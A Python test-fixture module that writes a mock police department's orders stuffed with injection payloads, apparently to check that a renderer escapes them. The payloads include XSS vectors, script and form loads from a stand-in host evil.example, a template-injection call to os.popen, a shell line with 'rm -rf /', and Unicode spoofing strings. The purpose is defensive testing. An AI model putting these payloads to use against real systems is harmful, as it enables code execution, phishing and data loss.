"""What somebody could write into an order, or put beside one, to harm its readers: over sixty pieces of it.

Each sets `window.owned` or asks for a file of another host, if any program ever takes it for what it is not. In an order all of
it is characters.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

DEPARTMENT = r"""name: Hostile <script>owned=0</script> Department
place: Nowhere <img src=x onerror=owned=0>
short_name: HPD
authority: Chief of Police
types:
  - code: GO
    name: General Order
    printed: [G.O., GO]
    number: '\d{4}-\d{2}'
"""

PARAGRAPHS = {
    "script": "A <script>owned=1</script> is words.",
    "script in capitals": "A <SCRIPT SRC=https://evil.example/x.js></SCRIPT> is words.",
    "script cut in two": "A <scr<script>ipt>owned=1</scr</script>ipt> is words.",
    "script that is never closed": "A <script>owned=1 is words.",
    "end of an article": "An </article></main></body></html><script>owned=1</script> is words.",
    "end of a title": "A </title></textarea></style><script>owned=1</script> is words.",
    "end of a template": "A </template><script>owned=1</script> is words.",
    "comment": "A <!-- <script>owned=1</script> --> is words.",
    "comment that is never closed": "A <!-- is words.",
    "conditional comment": "A <!--[if IE]><script>owned=1</script><![endif]--> is words.",
    "CDATA": "A <![CDATA[<script>owned=1</script>]]> is words.",
    "picture that fails": "A <img src=x onerror=owned=1> is words.",
    "picture of another host": "A <img src=https://evil.example/pixel.gif> is words.",
    "picture without a protocol": "A <img src=//evil.example/pixel.gif> is words.",
    "svg": "An <svg onload=owned=1><script>owned=1</script></svg> is words.",
    "svg that animates": "An <svg><animate onbegin=owned=1 attributeName=x dur=1s> is words.",
    "mathematics": "A <math><maction actiontype=statusline xlink:href=javascript:owned=1>x</maction></math> is words.",
    "frame": "An <iframe src=javascript:owned=1></iframe> is words.",
    "frame with a page in it": "An <iframe srcdoc='<script>parent.owned=1</script>'></iframe> is words.",
    "object": "An <object data=https://evil.example/x.swf></object> is words.",
    "embedded": "An <embed src=https://evil.example/x.swf> is words.",
    "video": "A <video><source onerror=owned=1></video> is words.",
    "details": "A <details open ontoggle=owned=1>x</details> is words.",
    "field that takes the focus": "An <input autofocus onfocus=owned=1> is words.",
    "form": "A <form action=https://evil.example/><button>Sign in</button></form> is words.",
    "base": "A <base href=https://evil.example/> is words.",
    "refresh": "A <meta http-equiv=refresh content='0;url=https://evil.example/'> is words.",
    "style sheet": "A <link rel=stylesheet href=https://evil.example/x.css> is words.",
    "style": "A <style>body{background:url(https://evil.example/x)}</style> is words.",
    "style of an element": 'A <b style="background:url(https://evil.example/x)">b</b> is words.',
    "link with a handler": "A <a href=# onmouseover=owned=1>link</a> is words.",
    "link that is a script": "A <a href=javascript:owned=1>link</a> is words.",
    "end of an attribute": 'A " onmouseover="owned=1" x=" is words.',
    "end of a quoted attribute": "A ' onmouseover='owned=1' x=' is words.",
    "entity": "An &lt;script&gt;owned=1&lt;/script&gt; and &#60;script&#62; and &amp;amp; is words.",
    "template of Jinja": "A {{ 7 * 7 }} and {% for x in y %} and {# note #} is words.",
    "template that reaches out": "A {{ cycler.__init__.__globals__.os.popen('id').read() }} is words.",
    "template of JavaScript": "A ${owned=1} and #{owned=1} and {{constructor.constructor('owned=1')()}} is words.",
    "shell": "A $(touch /tmp/owned) and |touch owned and ; rm -rf / is words.",
    "percent signs": "A %s%s%s%n and %00 and %2e%2e%2f is words.",
    "format": "A {0.__class__} and {name!r} is words.",
    "no width": "A ze\u200bro wi\u200ddth \u2060joiner is words.",
    "soft hyphen": "A hy\u00adphen is words.",
    "letters that look alike": "A \u0440\u0430y\u0440\u0430l and \uff1cscript\uff1eowned=1\uff1c/script\uff1e is words.",
    "many accents": "A Z" + "\u0351\u036b\u0343" * 30 + "algo is words.",
    "outside the first plane": "A \U0001f46e\u200d\u2640\ufe0f and \U00020000 is words.",
    "Word's quotation marks": "A \u201cquote\u201d \u2013 with an \u2026 in it \u2013 is words.",
    "very long word": "A " + "x" * 5000 + " is words.",
    "very many brackets": "A " + "<" * 500 + "[" * 500 + " is words.",
    "unfinished marks": "An **unfinished and `another and [one more]( is words.",
    "marks in marks": "A 3 * 4 * 5 and a _ b _ c and ~~ is words.",
    "reference": "A [link][ref] and [ref]: javascript:owned=1 is words.",
    "address in angles": "A <javascript:owned=1> and <https://evil.example/> is words.",
}
"""Paragraphs that must stand on the page as they stand here, by what they are."""

HEADERS = {
    "title with a script": ("title", "<script>owned=1</script> Title"),
    "title with a picture": ("title", "Title <img src=x onerror=owned=1>"),
    "title that ends the title": ("title", "Title </title><script>owned=1</script>"),
    "title that ends JSON": ("title", "Title </script><script>owned=1</script>"),
    "title for a spreadsheet": ("title", '=HYPERLINK("https://evil.example/")'),
    "title with a template": ("title", "Title {{ 7 * 7 }} {% raw %}"),
    "topic": ("topics", "<img src=x onerror=owned=1>"),
    "topic that climbs": ("topics", "../../../topic"),
    "distribution": ("distribution", "<svg onload=owned=1> Everybody"),
    "authority": ("authority", 'Chief " onmouseover="owned=1'),
    "standard": ("standards", "<b onclick=owned=1>12.2.1</b>"),
}
"""One value in the header of an order each: the key, and what stands there."""


@dataclass(frozen=True)
class Refused:
    """A file, or something in its place, that must be refused; `code` is that of the problem."""

    path: str
    text: str
    code: str


def _quoted(value: str) -> str:
    return "'" + value.replace("'", "''") + "'"


def order(directive: str, body: str, **header: str) -> str:
    """A file in the form of an order; values stand as they are given."""
    values = {"title": "A Title", "effective": "2020-01-01", "distribution": "[Everybody]", "text": "transcribed", **header}
    order = ("title", "effective", "distribution", "authority", "text", "topics", "standards")
    lines = [f"directive: {directive}", *(f"{key}: {values[key]}" for key in order if key in values)]
    return "---\n" + "\n".join(lines) + f"\n---\n\n{body.strip()}\n"


def files() -> dict[str, str]:
    """A department whose orders hold all of it."""
    texts = {"department.yml": DEPARTMENT}
    body = "## I. WORDS\n\n" + "\n\n".join(PARAGRAPHS.values())
    rows = "\n".join(f"| {n} | {words.replace('|', '/')} |" for n, words in enumerate(list(PARAGRAPHS.values())[:4]))
    table = f"## II. A TABLE <i onclick=owned=1>\n\n| No. | <b>Words</b> |\n| --- | --- |\n{rows}"
    texts["GO-2001-01/2001-01.md"] = order("GO 2001-01", f"{body}\n\n{table}")
    for place, (key, value) in enumerate(HEADERS.values(), 1):
        lists = key in {"topics", "distribution", "standards"}
        number = f"2002-{place:02}"
        written = f"[{_quoted(value)}]" if lists else _quoted(value)
        words = f"## I. WORDS\n\nAn order with a {key}."
        texts[f"GO-{number}/{number}.md"] = order(f"GO {number}", words, **{key: written})
    return texts


def write(folder: Path) -> Path:
    """The files of that department in a folder, which is returned."""
    for path, text in files().items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(text, "utf-8", newline="\n")
    return folder
